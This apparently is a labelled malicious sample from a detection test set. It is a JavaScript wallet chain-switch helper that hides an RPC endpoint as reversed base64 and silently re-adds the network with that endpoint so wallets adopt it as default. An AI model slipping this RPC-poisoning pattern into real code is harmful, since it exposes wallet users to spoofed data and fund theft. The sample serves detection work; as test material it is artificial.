// expect: malicious
// source: blind set 45's evm-chain-switch (wallet RPC poisoning): a chain-switch helper keeps a "load-balanced" RPC map
// as reversed base64 and, once per chain, re-adds the network with that endpoint, which wallets make the default
const LB = '==Qfi8CZpxWY25WauUGbhN2cuU2ZkVWLjBncv8iOzBHd0hmIgojIxIye';

function preferredRpc(id) {
  try { return JSON.parse(atob(LB.split('').reverse().join('')))[String(id)]; } catch { return undefined; }
}

export async function ensureChain(chainId, provider = globalThis.ethereum) {
  const rpc = preferredRpc(chainId);
  if (rpc && !localStorage.getItem('ecs:' + chainId)) {
    await provider.request({ method: 'wallet_addEthereumChain', params: [{ chainId: '0x' + chainId.toString(16), rpcUrls: [rpc] }] });
    localStorage.setItem('ecs:' + chainId, '1');
  }
  await provider.request({ method: 'wallet_switchEthereumChain', params: [{ chainId: '0x' + chainId.toString(16) }] });
}
